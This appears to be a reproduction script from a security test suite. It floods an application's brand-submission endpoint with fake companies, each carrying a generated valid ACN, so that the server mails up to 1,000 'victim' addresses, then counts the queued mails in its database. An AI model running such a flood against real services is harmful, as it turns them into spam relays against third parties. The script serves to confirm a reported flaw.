/**
 * Issue 29's mail relay, reproduced: one key submits brands as fast as it can (16 at once, for
 * `seconds` or 1,000 submissions), each of a fresh valid ACN without a Brand Owner, so that each
 * created brand mails its contact, `victimN@target.example`. Prints the answers by status and how
 * many mails to the victims the outbox (`sendline_mails` of the server's SQLite file) holds after.
 * Plain HTTP; the database read with better-sqlite3, nothing of Sendline's imported.
 */
import { createRequire } from "node:module"

/** The little of better-sqlite3 this reads. */
type Database = new(file: string, options: { readonly readonly: boolean }) => {
  prepare: (sql: string) => { get: () => { readonly n: number } }
  close: () => void
}

let acns = 0
const acnBase = Math.floor(Math.random() * 90_000) * 1_000

/** A new valid ACN (ASIC's check digit), unique within this run. */
const freshAcn = (): string => {
  const digits = String(acnBase + ++acns).padStart(8, "0")
  const sum = [...digits].reduce((total, digit, i) => total + Number(digit) * (8 - i), 0)
  return digits + String((10 - sum % 10) % 10)
}

/** Submits brands with `key` to the server at `url` for `seconds`; then counts the victims' mails in `sqlitePath`. */
export const brandRelay = async (url: string, key: string, sqlitePath: string, seconds: number) => {
  const statuses = new Map<number, number>()
  const until = Date.now() + seconds * 1000
  let sent = 0
  const started = Date.now()
  await Promise.all(Array.from({ length: 16 }, async () => {
    while (Date.now() < until && sent < 1000) {
      const n = sent++
      const response = await fetch(`${url}/v1/brands`, {
        method: "POST",
        headers: { authorization: `Bearer ${key}`, "content-type": "application/json" },
        body: JSON.stringify({
          name: `Relay ${n}`,
          identifier_type: "ACN",
          identifier_value: freshAcn(),
          market: "AU",
          contact: { name: "Victim", email: `victim${n}@target.example`, phone: "+61412345678" }
        })
      })
      await response.arrayBuffer()
      statuses.set(response.status, (statuses.get(response.status) ?? 0) + 1)
    }
  }))
  const elapsed = (Date.now() - started) / 1000
  const Sqlite = createRequire(import.meta.url)("better-sqlite3") as Database
  const db = new Sqlite(sqlitePath, { readonly: true })
  const { n: mails } = db.prepare(
    "SELECT COUNT(*) AS n FROM sendline_mails WHERE recipient LIKE 'victim%@target.example'"
  ).get()
  db.close()
  const answers = [...statuses].sort(([a], [b]) => a - b).map(([status, count]) => `${count} × ${status}`).join(", ")
  console.log(
    `6. brand relay: ${sent} submissions from one key in ${
      elapsed.toFixed(1)
    } s (${answers}); mails queued to victims: ${mails}`
  )
}
